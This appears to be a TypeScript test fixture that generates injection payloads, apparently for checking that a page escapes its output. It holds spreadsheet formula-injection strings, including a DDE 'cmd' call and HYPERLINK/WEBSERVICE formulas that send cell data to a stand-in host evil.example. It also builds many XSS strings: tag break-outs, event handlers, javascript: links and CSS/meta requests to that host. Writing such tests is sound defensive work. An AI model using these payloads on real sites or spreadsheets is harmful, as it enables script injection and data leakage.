/** Texts that a page can print and that some program would obey. */

/** What spreadsheet programs take for the start of a formula, or for a cell's end. */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'] as const;

const FORMULAS = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"ok")',
  'WEBSERVICE("http://evil.example/")',
  '1+1',
];

export const FORMULA_TEXTS = FORMULA_STARTS.flatMap((start) =>
  FORMULAS.flatMap((formula) => [`${start}${formula}`, ` ${start}${formula}`, `${start}"${formula}`]),
);

const TAGS = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'link',
  'meta',
  'style',
  'base',
  'form',
  'input',
  'video',
  'audio',
  'details',
  'math',
  'body',
  'template',
  'marquee',
  'a',
  'use',
  'animate',
  'foreignObject',
  'noscript',
];
const EVENTS = [
  'onload',
  'onerror',
  'ontoggle',
  'onfocus autofocus tabindex=1',
  'onanimationstart',
  'onbegin',
  'onstart',
  'onmouseover',
];
const BREAKS = [
  '',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '</svg>',
  '</td></table>',
  '\u0000',
  '&lt;',
];
const ADDRESS = 'https://evil.example/asked';
const RUN = 'globalThis.hacked=1';

/** Markup that would run a script or ask the network: every break-out with every tag, and every event. */
export const MARKUP_TEXTS: readonly string[] = [
  ...BREAKS.flatMap((out) =>
    TAGS.map(
      (tag, index) =>
        `${out}<${tag} src="${ADDRESS}" href="${ADDRESS}" ${EVENTS[index % EVENTS.length]}="${RUN}">${tag === 'script' ? `${RUN}</script>` : ''}`,
    ),
  ),
  ...BREAKS.flatMap((out) =>
    EVENTS.flatMap((event) => [
      `${out}<img src=x ${event}=${RUN}>`,
      `${out}" ${event}="${RUN}`,
      `${out}' ${event}='${RUN}`,
    ]),
  ),
  ...BREAKS.map((out) => `${out}<a href="javascript:${RUN}">x</a>`),
  ...BREAKS.map((out) => `${out}<style>@import url(${ADDRESS});*{background:url(${ADDRESS})}</style>`),
  ...BREAKS.map((out) => `${out}<meta http-equiv="refresh" content="0;url=${ADDRESS}">`),
  ...[
    '=alert(1)',
    '#{globalThis.hacked=1}',
    '{{globalThis.hacked=1}}',
    '&#60;script&#62;',
    '%3Cscript%3E',
    '\\u003cscript>',
    '＜script＞',
    '<!--',
    '<![CDATA[',
    '<?xml?>',
  ],
];
